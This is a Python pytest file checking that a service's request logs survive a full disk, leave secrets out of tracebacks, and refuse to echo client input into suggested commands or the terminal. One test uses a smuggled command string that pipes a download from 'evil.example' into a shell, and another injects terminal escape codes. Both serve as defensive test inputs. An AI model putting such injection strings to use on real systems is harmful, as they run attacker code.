# SPDX-License-Identifier: Apache-2.0
"""Log lines: they never stop a request, never show a secret, and never let a client write to a terminal."""

from __future__ import annotations

import io
import json
import sys
from typing import Literal

import msgspec
import pytest

from keystile.errors import Unavailable
from keystile.server.api.log import RequestLog
from keystile.server.logs import make_logger

Format = Literal["json", "pretty"]


class FullDisk(io.TextIOBase):
    """Standard error, sent to a file on a full disk."""

    def write(self, _: str, /) -> int:
        raise OSError(28, "No space left on device")


def a_request(log: RequestLog, error: Exception | None = None, status: int = 200) -> None:
    log.request(
        request_id="0123456789abcdef",
        method="POST",
        route="/validate",
        status=status,
        microseconds=1,
        tenant=None,
        error=error,
    )


@pytest.mark.parametrize("format", ["json", "pretty"])
def test_a_log_that_cannot_be_written_stops_nobody(monkeypatch: pytest.MonkeyPatch, format: Format) -> None:
    monkeypatch.setattr(sys, "stderr", FullDisk())

    a_request(RequestLog(make_logger(format)))


def test_a_text_that_is_not_unicode_is_logged_all_the_same(capsys: pytest.CaptureFixture[str]) -> None:
    make_logger("json").info("odd", text="half \ud800 a pair")

    assert json.loads(capsys.readouterr().err)["event"] == "odd"


@pytest.mark.parametrize("format", ["json", "pretty"])
def test_a_traceback_shows_no_values(capsys: pytest.CaptureFixture[str], format: Format) -> None:
    log = RequestLog(make_logger(format))

    def handle() -> None:
        secret_key = "ks_" + "canary"  # noqa: F841 (what a traceback with values would show)
        raise RuntimeError("a mistake of ours")

    try:
        handle()
    except RuntimeError as error:
        a_request(log, error, 500)

    line = capsys.readouterr().err
    assert "a mistake of ours" in line
    assert "ks_canary" not in line


def test_a_failure_of_ours_is_logged_with_what_an_operator_needs(capsys: pytest.CaptureFixture[str]) -> None:
    error = Unavailable("The database does not answer.")
    error.__cause__ = OSError("disk I/O error")

    a_request(RequestLog(make_logger("json")), error, 503)

    line = msgspec.json.decode(capsys.readouterr().err)
    assert (line["level"], line["reason"]) == ("error", "The database does not answer. (disk I/O error)")


def test_a_suggested_command_never_holds_what_a_stranger_made_up(capsys: pytest.CaptureFixture[str]) -> None:
    RequestLog(make_logger("json")).unlisted_origin("https://a.example; curl evil.example | sh")

    assert "do" not in msgspec.json.decode(capsys.readouterr().err)


def test_a_suggested_command_names_a_well_formed_origin(capsys: pytest.CaptureFixture[str]) -> None:
    RequestLog(make_logger("json")).unlisted_origin("https://app.example.com:8443")

    line = msgspec.json.decode(capsys.readouterr().err)
    assert line["do"] == "keystile tenant origins add https://app.example.com:8443"


def test_a_terminal_gets_no_control_characters_of_a_client(capsys: pytest.CaptureFixture[str]) -> None:
    RequestLog(make_logger("pretty")).unlisted_origin("https://a.example\x1b[2J\nfake line")

    line = capsys.readouterr().err
    assert "\x1b[2J" not in line
    assert "\nfake" not in line
